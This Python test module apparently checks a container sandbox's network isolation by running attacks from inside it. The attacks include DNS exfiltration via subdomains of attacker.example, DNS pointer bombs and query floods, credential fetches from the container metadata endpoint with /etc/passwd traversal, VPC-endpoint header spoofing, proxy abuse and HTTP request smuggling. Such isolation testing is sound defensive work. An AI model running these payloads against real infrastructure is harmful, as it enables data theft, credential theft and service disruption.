"""More attempts from inside a container, in addition to ``job_attacks.py``: DNS questions and requests to services."""

from __future__ import annotations

import http.client
import os
import select
import socket
import struct
import time

from tests.end_to_end.job_attacks import FACTS, SECONDS, attempt, connect, outcome

# Names


def dns(name: str, kind: int = 1, server: str = "169.254.169.253", flags: int = 0x0100, family: int = 1) -> str:
    """Send a DNS question; return the response code, and the number of answers if there are any."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    question = struct.pack("!6H", 7, flags, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, family)
    found: list[bytes] = []

    def action() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.settimeout(SECONDS)
            asking.sendto(question, (server, 53))
            found.append(asking.recv(4096))

    said = outcome(action, "answered")
    return f"{found[0][3] & 15}/{struct.unpack('!H', found[0][6:8])[0]}" if said == "answered" else said


@attempt
def names_that_carry_data() -> list[str]:
    found = set()
    for number in range(40):
        data = os.urandom(30).hex()
        for kind in (1, 5, 10, 16, 28, 255):
            found.add(dns(f"{data}.{number}.attacker.example", kind))
        found.add(dns(f"{data}.attacker.amazonaws.com"))
    return sorted(found)


@attempt
def name_servers_outside() -> list[str]:
    return [dns("example.com", server=server) for server in ("8.8.8.8", "1.1.1.1", FACTS["host"])] + [
        connect("8.8.8.8", 53)
    ]


@attempt
def updates_and_transfers_of_zones() -> list[str]:
    def action() -> None:
        with socket.create_connection(("169.254.169.253", 53), SECONDS) as client:
            question = struct.pack("!6H", 7, 0, 1, 0, 0, 0) + b"\x09amazonaws\x03com\0" + struct.pack("!HH", 252, 1)
            client.sendall(struct.pack("!H", len(question)) + question)
            answer = client.recv(4096)
            said.append(f"{answer[5] & 15}/{struct.unpack('!H', answer[8:10])[0]}" if answer else "closed")

    said: list[str] = []
    ended = outcome(action)
    return [*(said or [ended]), dns("s3.amazonaws.com", 6, flags=0x2800), dns("version.bind", 16, family=3)]


@attempt
def garbage_to_the_resolver() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        for number in range(200):
            junk = os.urandom(number)
            asking.sendto(junk, ("169.254.169.253", 53))
            loop = struct.pack("!6H", number, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1"
            asking.sendto(loop, ("10.0.0.2", 53))
    return dns("s3.us-east-1.amazonaws.com")


@attempt
def bomb_of_names() -> list[str]:
    """Send a question with 63 KB of nested name pointers over TCP, 50 times at once, then a valid question."""
    question = b"".join(bytes([len(part)]) + part.encode() for part in ["s3", "us-east-1", "amazonaws", "com"])
    records = b"".join(struct.pack("!HHHIH", 0xC000 | min(0x3FFF, 12 + 12 * n), 1, 1, 0, 0) for n in range(5_000))
    bomb = struct.pack("!6H", 7, 0x0100, 1, 0xFFFF, 0xFFFF, 0xFFFF) + question + b"\0\0\1\0\1" + records
    connections = [socket.create_connection(("10.0.0.2", 53), SECONDS) for _ in range(50)]
    for connection in connections:
        connection.sendall(len(bomb).to_bytes(2, "big") + bomb)
    answers = [connection.recv(4096) for connection in connections]
    for connection in connections:
        connection.close()
    # The number of pending questions per address is limited; another one is dropped and its connection closed.
    return [*sorted({f"{answer[5] & 15}" for answer in answers if answer}), dns("s3.us-east-1.amazonaws.com")]


@attempt
def names_of_another_vpc() -> list[str]:
    return [dns(name, kind, server) for name, kind in FACTS["names"] for server in ("169.254.169.253", "10.0.0.2")]


@attempt
def flood_of_questions() -> bool:
    """Return whether some questions were not answered, and the resolver answers again after a second."""
    question = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + b"\2s3\x09amazonaws\3com\0" + struct.pack("!HH", 1, 1)
    answered = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        for _ in range(8_000):
            asking.sendto(question, ("169.254.169.253", 53))
        asking.settimeout(SECONDS)
        try:
            while asking.recv(512):
                answered += 1
        except TimeoutError:
            pass
    time.sleep(1.5)
    return answered < 8_000 and dns("s3.amazonaws.com") == "0/1"


# Requests


def request(address: str, text: str, port: int = 80) -> list[str]:
    """Send a raw request; return the status lines of the answers that arrive within two seconds."""
    with socket.create_connection((address, port), 3) as client:
        client.sendall(text.replace("\n", "\r\n").encode())
        client.settimeout(2)
        data = b""
        try:
            while part := client.recv(65_536):
                data += part
        except (TimeoutError, ConnectionResetError):
            pass
    return [line.split(" ")[1] for line in data.decode("latin-1").split("\r\n") if line.startswith("HTTP/1.")]


@attempt
def credentials_of_a_neighbour() -> list[int]:
    found = []
    for method, path in (
        ("GET", FACTS["credentials"]),
        ("GET", "/"),
        ("GET", "/../../../etc/passwd"),
        ("PUT", "/"),
        ("GET", "//v2/credentials/"),
    ):
        metadata = http.client.HTTPConnection("169.254.170.2", timeout=5)
        metadata.request(method, path)
        found.append(metadata.getresponse().status)
    return found


@attempt
def another_service_through_the_storage_endpoint() -> list[str]:
    names = (
        "ec2.us-east-1.amazonaws.com",
        "sts.amazonaws.com",
        "iam.amazonaws.com",
        "logs.us-east-1.amazonaws.com",
        "localhost",
    )
    found = []
    for name in names:
        body = "Action=GetCallerIdentity&Version=2011-06-15"
        head = f"POST / HTTP/1.1\nHost: {name}\nContent-Type: application/x-www-form-urlencoded\n"
        head += f"Content-Length: {len(body)}\nConnection: close\n\n"
        found += request(FACTS["storage"], head + body)
    return found


@attempt
def headers_that_claim_another_path() -> list[str]:
    address, endpoint = FACTS["allowed_address"], FACTS["allowed_endpoint"]
    claims = f"X-Forwarded-For: {address}\nForwarded: for={address}\nX-Real-IP: {address}\n"
    claims += f"X-Amz-Source-Vpce: {endpoint}\naws:SourceVpce: {endpoint}"
    return request(
        FACTS["storage"],
        f"GET /secret HTTP/1.1\nHost: {FACTS['guarded']}.s3.amazonaws.com\n{claims}\nConnection: close\n\n",
    )


@attempt
def the_endpoint_as_a_proxy() -> list[str]:
    port = FACTS["port"]
    return [
        *request(FACTS["storage"], f"CONNECT 127.0.0.1:{port} HTTP/1.1\nHost: 127.0.0.1:{port}\n\n"),
        *request(
            FACTS["storage"], f"GET http://127.0.0.1:{port}/ HTTP/1.1\nHost: 127.0.0.1:{port}\nConnection: close\n\n"
        ),
        *request(FACTS["storage"], "GET http://1.1.1.1/ HTTP/1.1\nHost: 1.1.1.1\nConnection: close\n\n"),
    ]


@attempt
def a_request_inside_a_request() -> list[str]:
    inner = "GET / HTTP/1.1\nHost: s3.amazonaws.com\n\n"
    length = len(inner.replace("\n", "\r\n"))
    both = f"Content-Length: {length + 5}\nTransfer-Encoding: chunked\n\n0\n\n{inner}"
    twice = f"Content-Length: 0\nContent-Length: {length}\n\n{inner}"
    return [
        text
        for rest in (both, twice)
        for text in ["/".join(request(FACTS["storage"], f"PUT /x HTTP/1.1\nHost: b.s3.amazonaws.com\n{rest}"))]
    ]


@attempt
def hoarded_connections() -> list[int]:
    """Return how many silent connections the endpoint's listener and the resolver keep open."""
    kept = []
    for address, port, many in ((FACTS["storage"], 80, 600), ("169.254.169.253", 53, 100)):
        held = [socket.create_connection((address, port), 3) for _ in range(many)]
        time.sleep(1)
        poll = select.poll()
        for each in held:
            poll.register(each, select.POLLIN)
        kept.append(many - len(poll.poll(0)))
        for each in held:
            each.close()
    return kept
